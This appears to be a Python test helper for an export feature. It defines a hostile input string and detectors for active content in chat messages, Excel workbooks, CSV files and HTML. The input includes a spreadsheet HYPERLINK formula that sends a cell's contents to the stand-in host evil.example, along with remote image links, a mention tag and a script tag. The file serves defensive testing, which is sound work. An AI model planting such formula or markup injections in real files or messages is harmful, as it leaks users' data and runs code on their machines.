"""Words as somebody would type them who wants more than to be read: formulas, links, pictures, mentions, markup."""

import csv
import io
import re
import zipfile
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import openpyxl

from tests.conversations.standin import Json, walked

EVIL = "evil.example"
FORMULA = f'=HYPERLINK("https://{EVIL}/?"&A1,"x")'
HOSTILE = (
    f"{FORMULA} ![i](https://{EVIL}/i.png) [click](https://{EVIL}) <at>Everyone</at> <img src=https://{EVIL}/i.png>"
    " <script>alert(1)</script> {{DATE(2020-01-01T00:00:00Z,SHORT)}} ${title} {0} `c`"
)
ACTIVE = re.compile(r"(?<!\\)\]\(|<at\b|<img\b|<script\b|<a\b|\{\{(?:DATE|TIME)\(", re.IGNORECASE)


def active_in(body: Json) -> list[str]:
    """What a client would act on in a message: its text, and what a card shows as Markdown; inputs show it as it is."""
    shown = [str(body.get("text") or "")]
    for each in walked(body.get("attachments") or []):
        kind = each.get("type")
        if kind in ("TextBlock", "TextRun"):
            shown.append(str(each["text"]))
        elif kind == "FactSet":
            shown += [str(fact[part]) for fact in each["facts"] for part in ("title", "value")]
        elif kind == "AdaptiveCard" and "fallbackText" in each:
            shown += [each["fallbackText"], each["speak"]]
        elif kind in ("Image", "Media") or any(name in each for name in ("backgroundImage", "iconUrl")):
            shown += [f"![picture {each}](" for value in each.values() if EVIL in str(value)]
        elif kind == "Action.OpenUrl" and EVIL in str(each.get("url")):
            shown.append(f"](opens {each['url']}")
    mentioned = [f"<at {each}" for each in body.get("entities") or [] if each.get("type") == "mention"]
    return [text for text in (*shown, *mentioned) if ACTIVE.search(text)]


def active_in_excel(content: bytes) -> list[str]:
    """Formulas and links with what was typed, and parts from elsewhere, in a workbook."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells: list[Any] = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    found = [f"{cell.coordinate} {cell.value}" for cell in cells if cell.data_type == "f" and EVIL in str(cell.value)]
    return found + from_elsewhere(content)


def from_elsewhere(content: bytes) -> list[str]:
    """Parts of an Office file that are fetched, or opened, from elsewhere."""
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        parts = {name: file.read(name).decode("utf-8", "replace") for name in file.namelist() if name.endswith(".rels")}
    return [name for name, text in parts.items() if EVIL in text]


def formulas_in_csv(content: bytes) -> list[str]:
    """Cells that a spreadsheet takes for a formula."""
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [cell for row in rows for cell in row if re.match(r"[\"\s]*[=+@-]", cell) and cell.strip("-") != ""]


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        away = [value for _, value in attrs if urlsplit(value or "").hostname == EVIL]
        if tag in ("at", "img") or (tag == "script" and "src" not in dict(attrs)) or away:
            self.found.append(f"{tag} {attrs}")


def active_in_page(text: str) -> list[str]:
    """Elements and addresses that somebody typed."""
    parser = _Elements()
    parser.feed(text)
    return parser.found
